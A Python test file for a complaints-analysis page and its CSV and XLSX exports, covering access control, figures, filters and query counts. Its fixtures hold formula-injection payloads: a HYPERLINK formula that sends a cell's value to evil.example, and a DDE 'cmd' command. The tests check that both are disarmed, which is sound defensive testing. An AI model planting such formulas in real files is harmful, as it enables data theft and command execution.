"""What complaints tell us, as managers see it: who may look, what the page shows, the
filters refused with a message, the exports (with formulas disarmed in CSV and XLSX alike), and
the same number of statements however many cases there are."""

import csv
import io
import re
from datetime import UTC, datetime, timedelta

import pytest
from openpyxl import load_workbook

from shared import patterns as pattern_figures
from shared import services
from shared.extensions import db
from shared.models import (
    EventKind,
    Problem,
    ProblemCase,
    ProblemStatus,
    Redress,
    RedressKind,
    RedressState,
    TimelineEvent,
    Visibility,
)
from tests import factories
from tests.support.html import text_of
from tests.test_patterns import causes_and_products, new_case

NOW = datetime(2026, 11, 18, 12, 0, tzinfo=UTC)
PERIOD = "start=2026-11-01&end=2026-11-18"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
ROUTES = ["/staff/patterns", "/staff/patterns/export.csv", "/staff/patterns/export.xlsx",
          "/staff/patterns/export.csv?what=cases", "/staff/patterns/export.xlsx?what=cases"]


def at(day: int, hour: int = 12) -> datetime:
    return datetime(2026, 11, day, hour, 0, tzinfo=UTC)


def add_cases(org, count: int, causes, products, *, first_number: int = 0):
    """`count` complaints over the first half of November, most resolved with a cause, with
    remedies, reopenings and a problem: something in every figure."""
    made = []
    for number in range(first_number, first_number + count):
        customer = _customer(number % 7, first_number)
        created = at(1 + number % 14, 9 + number % 8)
        resolved = created + timedelta(days=2) if number % 4 else None
        case = new_case(
            org, customer, created=created,
            category=(org.delivery, org.bills, org.other)[number % 3],
            team=org.care if number % 3 != 1 else org.billing,
            product=(*products, None)[number % 4],
            cause=causes[[0, 0, 0, 1, 2, 3, 4][number % 7]] if resolved else None,
            resolved=resolved, rating=1 + number % 5 if resolved else None,
            handoffs=number % 3,
            words="Van broke down" if resolved and number % 7 == 6 else None,
        )
        made.append(case)
        if resolved and number % 2:
            db.session.add(Redress(case=case, kind=RedressKind.GOODWILL, description="Sorry",
                                   amount_minor=1000 + number, currency="GBP",
                                   state=RedressState.GIVEN, recorded_by_id=org.sam.id))
        if number % 5 == 0:
            db.session.add(TimelineEvent(case=case, kind=EventKind.REOPENED,
                                         visibility=Visibility.PUBLIC,
                                         actor_id=case.customer_id, body="Still not fixed",
                                         created_at=created + timedelta(days=3)))
    problem = Problem(title=f"Vans breaking down {first_number}", team=org.care,
                      owner=org.manager, created_by_id=org.manager.id,
                      status=ProblemStatus.INVESTIGATING, created_at=at(1))
    db.session.add(problem)
    db.session.flush()
    for case in made[:3]:
        db.session.add(ProblemCase(problem=problem, case=case, linked_by_id=org.sam.id))
    return made


_customers = {}


def _customer(index, batch):
    key = (index, batch)
    if key not in _customers or _customers[key].id is None:
        _customers[key] = factories.make_customer(f"person{index}-{batch}@example.com",
                                                  f"Person {index}")
    return _customers[key]


@pytest.fixture
def data(org, frozen_now):
    frozen_now(NOW)
    _customers.clear()
    causes, products = causes_and_products()
    causes[1].name = FORMULA  # a cause named like a formula: an admin's slip, or worse
    cases = add_cases(org, 12, causes, products)
    cases[3].root_cause_words = FORMULA  # the fourth: resolved, with the cause above
    db.session.add(TimelineEvent(case=cases[2], kind=EventKind.REOPENED,
                                 visibility=Visibility.PUBLIC, actor_id=cases[2].customer_id,
                                 body="=cmd|' /C calc'!A0", created_at=at(15)))
    services.commit()
    return {"causes": causes, "products": products, "cases": cases}


# --- Who may look -----------------------------------------------------------------------------


@pytest.mark.parametrize("path", ROUTES)
def test_signed_out_people_are_sent_to_sign_in(client, org, path):
    response = client.get(path)

    assert response.status_code == 302
    assert response.headers["Location"].startswith("/staff/login?next=")


@pytest.mark.parametrize("path", ROUTES)
def test_customers_and_agents_may_not_look(org, login_as, path):
    customer = factories.make_customer()
    db.session.commit()

    assert login_as(customer).get(path).status_code == 403
    assert login_as(org.sam).get(path).status_code == 403


@pytest.mark.parametrize("who", ["manager", "admin"])
def test_managers_and_admins_find_it_beside_the_dashboard(org, login_as, who):
    html = login_as(getattr(org, who)).get("/staff/").get_data(as_text=True)

    links = re.findall(r'href="(/staff/[^"]*)"', html)
    assert "/staff/patterns" in links
    assert links.index("/staff/patterns") == links.index("/staff/dashboard") + 1
    assert login_as(getattr(org, who)).get("/staff/patterns").status_code == 200


def test_agents_have_no_link(org, login_as):
    html = login_as(org.sam).get("/staff/").get_data(as_text=True)

    assert 'href="/staff/patterns"' not in html


# --- The page ---------------------------------------------------------------------------------


def _words(response) -> str:
    """The page as read: tags dropped, white space run together."""
    return " ".join(re.sub(r"<[^>]+>", " ", text_of(response)).split()).replace(" :", ":")


def _resolved_with(org, causes):
    customer = factories.make_customer("few@example.com", "Few Causes")
    for number, cause in enumerate(causes):
        new_case(org, customer, created=at(2 + number), cause=cause, resolved=at(4 + number))
    services.commit()


def test_one_cause_is_said_plainly_not_as_one_of_one(org, frozen_now, login_as):
    frozen_now(NOW)
    causes, _products = causes_and_products()
    _resolved_with(org, [causes[0], causes[0]])

    text = _words(login_as(org.manager).get(f"/staff/patterns?{PERIOD}"))

    assert ("All of them had the same cause, Delivery → Carrier missed the slot: fixing it"
            " does the most good.") in text
    assert "1 of the 1 cause" not in text
    # No hand-offs at all: said in words, not as 0.0.
    assert "0.0" not in text


def test_when_every_cause_is_among_the_vital_few_the_page_says_so(org, frozen_now, login_as):
    frozen_now(NOW)
    causes, _products = causes_and_products()
    _resolved_with(org, [causes[0], causes[1]])

    text = _words(login_as(org.manager).get(f"/staff/patterns?{PERIOD}"))

    assert ("It takes all 2 causes to reach 80 % of them, so each is among the vital few:"
            " start with the most common, ") in text
    assert "2 of the 2 causes account for" not in text
    assert "these vital few first" not in text


def test_the_page_shows_the_pareto_with_the_vital_few(org, data, login_as):
    response = login_as(org.manager).get(f"/staff/patterns?{PERIOD}")
    html = response.get_data(as_text=True)
    text = text_of(response)

    assert response.status_code == 200
    found = pattern_figures.build_patterns(
        pattern_figures.Period(datetime(2026, 11, 1).date(), datetime(2026, 11, 18).date()),
        NOW)
    top = found.pareto.rows[0]
    assert top.label == "Delivery → Carrier missed the slot"
    assert re.search(r'<svg [^>]*role="img"[^>]*id="chart-pareto"', html)
    row = re.search(r"<tr>\s*<th scope=\"row\">Delivery → Carrier missed the slot</th>(.*?)</tr>",
                    html, re.S).group(1)
    assert f'<td class="num">{top.cases}</td>' in row
    assert "Vital few" in row
    vital = len(found.pareto.vital_few)
    assert (f"{vital} of the {len(found.pareto.rows)} causes account for") in text
    assert html.count('<span class="tag tag--late">Vital few</span>') == vital
    for heading in ("Root causes", "Trends", "Spikes", "Satisfaction and hand-offs, by root cause",
                    "Redress given", "Repeat complainants", "Why customers reopened",
                    "Problems open longest"):
        assert f">{heading}</h2>" in html
    assert "Vans breaking down 0" in text
    assert "Still not fixed" in text
    assert "£" in text  # redress in money
    assert "Not recorded" in text  # cases without a product
    # Formulas are only text on the page (escaped like anything else).
    assert "=HYPERLINK(&#34;http://evil" in html or "=HYPERLINK(&quot;http://evil" in html
    assert "style=" not in html
    assert not re.search(r"<script(?![^>]*\bsrc=)", html)
    # The exports keep the filters.
    assert "/staff/patterns/export.xlsx?what=cases&amp;start=2026-11-01&amp;end=2026-11-18" \
        in html


def test_filters_narrow_the_page(org, data, login_as):
    product = data["products"][0]
    html = login_as(org.manager).get(
        f"/staff/patterns?{PERIOD}&team={org.care.id}&category={org.delivery.id}"
        f"&product={product.id}").get_data(as_text=True)

    assert f"Showing Customer care, Delivery, {product.name}, 1 November 2026" in html
    assert f'<option selected value="{org.delivery.id}">' in html
    assert f'<option selected value="{product.id}">' in html


def test_wrong_filters_are_refused_with_a_message_and_kept(org, data, login_as):
    response = login_as(org.manager).get(
        "/staff/patterns?start=2026-11-18&end=2026-11-01&category=999&product=abc")
    text = text_of(response)

    assert response.status_code == 422
    assert "The last day must be the same as or after the first day" in text
    assert "Choose a category from the list, or All categories" in text
    assert "Choose a product or service from the list, or All products and services" in text
    assert "Correct the filters above to see the figures." in text
    assert 'value="2026-11-18"' in response.get_data(as_text=True)


def test_an_empty_period_says_so_in_words(org, login_as, frozen_now):
    frozen_now(NOW)
    text = text_of(login_as(org.manager).get(f"/staff/patterns?{PERIOD}"))

    assert "No case with a root cause was resolved in this period." in text
    assert "No complaint was raised in these weeks or the weeks before." in text
    assert "No redress was given on the cases resolved in this period." in text
    assert "No customer reopened a case in this period." in text
    assert "No problem is open." in text


# --- Exports ----------------------------------------------------------------------------------


def csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))


def assert_no_formula(cells):
    for cell in cells:
        if isinstance(cell, str):
            assert not cell.lstrip(" \"'").startswith(("=", "+", "-", "@")) \
                or cell.startswith("'"), cell


def test_the_figures_as_csv(org, data, login_as):
    response = login_as(org.manager).get(f"/staff/patterns/export.csv?what=figures&{PERIOD}")
    rows = csv_rows(response)

    assert response.status_code == 200
    assert response.headers["Content-Type"].startswith("text/csv")
    assert "filename=complaints-figures-2026-11-01-to-2026-11-18.csv" \
        in response.headers["Content-Disposition"]
    titles = [row[0] for row in rows if len(row) == 2 and row[0] and not row[0][0].isdigit()]
    for title in ("Root causes", "Trends by category", "Trends by product",
                  "Repeat complainants", "Reopened", "Redress by cause", "Redress by product",
                  "Problems open longest"):
        assert title in titles
    pareto = rows[[row[0] if row else "" for row in rows].index("Cause area") + 1]
    assert pareto[:2] == ["Delivery", "Carrier missed the slot"]
    assert pareto[5] == "Yes"
    cells = [cell for row in rows for cell in row]
    assert "'" + FORMULA in cells  # the cause's name
    assert "'=cmd|' /C calc'!A0" in cells
    assert_no_formula(cells)


def test_the_figures_as_xlsx(org, data, login_as):
    response = login_as(org.manager).get(f"/staff/patterns/export.xlsx?{PERIOD}")

    assert response.status_code == 200
    assert response.headers["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")
    book = load_workbook(io.BytesIO(response.data))
    assert book.sheetnames == ["About", "Root causes", "Trends by category", "Trends by product",
                               "Repeat complainants", "Reopened", "Redress by cause",
                               "Redress by product", "Problems open longest"]
    causes = book["Root causes"]
    assert [cell.value for cell in causes[1]][:6] == [
        "Cause area", "Root cause", "Cases", "Share (%)", "Cumulative share (%)", "Vital few"]
    assert (causes["A2"].value, causes["B2"].value) == ("Delivery", "Carrier missed the slot")
    assert isinstance(causes["C2"].value, int)
    everything = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in everything)
    texts = [cell.value for cell in everything if isinstance(cell.value, str)]
    assert "'" + FORMULA in texts
    assert "'=cmd|' /C calc'!A0" in texts
    assert_no_formula(texts)


def test_the_cases_as_csv_and_xlsx(org, data, login_as):
    client = login_as(org.manager)
    rows = csv_rows(client.get(f"/staff/patterns/export.csv?what=cases&{PERIOD}"))
    book = load_workbook(io.BytesIO(
        client.get(f"/staff/patterns/export.xlsx?what=cases&{PERIOD}").data))
    sheet_rows = [[cell.value for cell in row] for row in book["Cases"].iter_rows()]

    assert rows[0] == ["Reference", "Raised", "Resolved", "Category", "Product or service",
                       "Team", "Outcome", "Cause area", "Root cause", "Cause in words",
                       "Redress given", "Redress total"]
    assert sheet_rows[0] == rows[0]
    references = [case.reference for case in data["cases"]]
    assert [row[0] for row in rows[1:]] == references
    assert [row[0] for row in sheet_rows[1:]] == references
    fourth = rows[4]
    assert fourth[7:10] == ["Delivery", "'" + FORMULA, "'" + FORMULA]
    assert fourth[6] == "Upheld"
    assert fourth[10] == "Goodwill gesture of £10.03: Sorry"
    assert fourth[11] == "£10.03"
    assert fourth[1] == "2026-11-04 12:00"  # 12:00 UTC is 12:00 in London in November
    assert sheet_rows[4][7:10] == ["Delivery", "'" + FORMULA, "'" + FORMULA]
    assert sheet_rows[4][1] == datetime(2026, 11, 4, 12, 0)  # a real date in the spreadsheet
    assert_no_formula([cell for row in rows for cell in row])
    assert all(cell.data_type != "f" for row in book["Cases"].iter_rows() for cell in row)


def test_the_cases_export_says_when_it_is_cut_short(org, data, login_as, monkeypatch):
    monkeypatch.setattr(pattern_figures, "CASE_EXPORT_LIMIT", 5)
    client = login_as(org.manager)
    rows = csv_rows(client.get(f"/staff/patterns/export.csv?what=cases&{PERIOD}"))
    book = load_workbook(io.BytesIO(
        client.get(f"/staff/patterns/export.xlsx?what=cases&{PERIOD}").data))

    assert len(rows) == 1 + 5 + 1
    assert rows[-1] == ["Only the first 5 of 12 cases are here, oldest first: choose a shorter"
                        " period, or a team, category or product, for the rest."]
    values = [row[0].value for row in book["Cases"].iter_rows() if row and row[0].value]
    assert values[-1].startswith("Only the first 5 of 12 cases")


def test_an_unknown_export_or_wrong_filters_are_refused(org, data, login_as):
    client = login_as(org.manager)

    response = client.get(f"/staff/patterns/export.csv?what=everything&{PERIOD}")
    assert response.status_code == 400
    assert "Choose what to export" in response.get_data(as_text=True)
    response = client.get("/staff/patterns/export.xlsx?what=cases&start=not-a-day")
    assert response.status_code == 422
    assert "Enter the first day as a date" in text_of(response)
    assert client.get("/staff/patterns/export.pdf").status_code == 404


# --- Bounded -----------------------------------------------------------------------------------


def test_the_page_runs_the_same_number_of_statements_at_two_sizes(org, login_as, frozen_now,
                                                                   count_queries):
    frozen_now(NOW)
    _customers.clear()
    causes, products = causes_and_products()
    add_cases(org, 10, causes, products)
    services.commit()
    client = login_as(org.manager)

    def statements() -> tuple[int, str]:
        db.session.expire_all()
        with count_queries() as seen:
            response = client.get(f"/staff/patterns?{PERIOD}&team={org.care.id}")
        assert response.status_code == 200
        return len(seen), text_of(response)

    few, few_text = statements()
    add_cases(org, 50, causes, products, first_number=10)
    services.commit()
    many, many_text = statements()

    def resolved(text):
        return int(re.search(r"([\d,]+) cases? resolved in the period had a root cause",
                             text).group(1).replace(",", ""))

    assert 0 < resolved(few_text) < resolved(many_text)
    assert many == few
    assert few <= 25
